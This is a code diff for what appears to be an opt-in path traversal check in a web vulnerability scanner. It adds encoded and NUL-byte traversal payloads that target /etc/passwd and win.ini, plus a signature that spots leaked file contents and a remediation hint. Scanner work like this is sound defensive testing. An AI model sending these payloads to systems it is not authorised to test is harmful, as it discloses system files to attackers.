@@ -17,12 +17,23 @@ const payloads: readonly (string | RawPath)[] = [
   `${'%2e%2e/'.repeat(10)}etc/passwd`,
   { raw: `${'..%c0%af'.repeat(10)}etc%c0%afpasswd` },
   `/var/www/html/${up}etc/passwd`,
-  `${up}etc/passwd\0.png`,
   `${'..\\'.repeat(10)}windows\\win.ini`,
   'C:\\Windows\\win.ini',
   'file:///C:/Windows/win.ini',
   `${'..%5c'.repeat(10)}windows%5cwin.ini`,
+  { raw: `${'..%255c'.repeat(10)}windows%255cwin.ini` },
+  { raw: `${'..%c1%9c'.repeat(10)}windows%c1%9cwin.ini` },
 ];
+/** Payloads that depend on the value that the site itself puts there. */
+const ownPayloads = 2;
+
+/** Some programs accept only paths that begin with a folder of theirs, or end with an extension: NUL ends a path early. */
+function payloadsFor(value: string): readonly (string | RawPath)[] {
+  const folder = /^(.{0,100}[\\/])[^\\/]*$/.exec(value)?.[1] ?? 'images/';
+  const extension = /\.[a-z\d]{1,5}$/i.exec(value)?.[0] ?? '.png';
+  return [...payloads, `${folder}${up}etc/passwd`, `${up}etc/passwd\0${extension}`];
+}
+
 const signature = /^[^\n]{0,40}root:[^:\n]{0,20}:0:0:[^\n]{0,80}|\[fonts\]\s{0,4}\n|; for 16-bit app support/m;
 
 export const pathTraversal: PointCheck = {
@@ -41,7 +52,7 @@ export const pathTraversal: PointCheck = {
     remediation:
       'Select files by an identifier, or resolve the path and reject what is outside of the directory: `const file = path.resolve(root, name); if (!file.startsWith(root + path.sep)) throw …` (Node.js).',
     needs: [],
-    maxRequests: payloads.length + 1,
+    maxRequests: payloads.length + ownPayloads + 1,
     optIn: true,
   },
   appliesTo: ({ point: { kind, name, value } }) =>
@@ -50,7 +61,7 @@ export const pathTraversal: PointCheck = {
 };
 
 async function tryPaths(point: InjectionPoint, probe: PointProbe): Promise<Outcome | undefined> {
-  for (const payload of payloads) {
+  for (const payload of payloadsFor(point.value)) {
     const requestWith = (change: (path: string) => string): ProbeRequest =>
       typeof payload === 'string' ? point.request(change(payload)) : point.request(change(payload.raw), { raw: true });
     const request = requestWith((path) => path);
